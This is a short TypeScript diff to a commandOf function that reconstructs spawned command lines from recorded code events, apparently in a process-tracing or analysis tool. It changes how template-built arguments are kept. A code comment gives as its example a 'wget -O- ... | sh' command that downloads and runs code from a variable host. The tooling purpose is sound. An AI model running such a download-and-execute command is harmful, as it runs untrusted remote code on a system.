@@ -70,7 +70,8 @@ export function commandOf(e: CodeEvent): string | undefined {
   const argv = first.entries?.['args']?.items;
   if (/^process\.binding\.\w+(?:\.Process)?\.spawn$/.test(e.callee) && argv) return argv.map((i) => i.value ?? '…').join(' ');
   if (first.value !== undefined) {
-    const rest = (e.call?.args.slice(1) ?? []).flatMap((a) => (a.items ? a.items.map((i) => i.value ?? '') : []));
+    // An argument built from a template (`['-c', \`wget -O- "…${host}" | sh\`]`) keeps its literal text.
+    const rest = (e.call?.args.slice(1) ?? []).flatMap((a) => (a.items ? a.items.map((i) => i.value ?? templateText(i.text) ?? '') : []));
     return [first.value, ...rest].join(' ').trim();
   }
   if (first.items) {
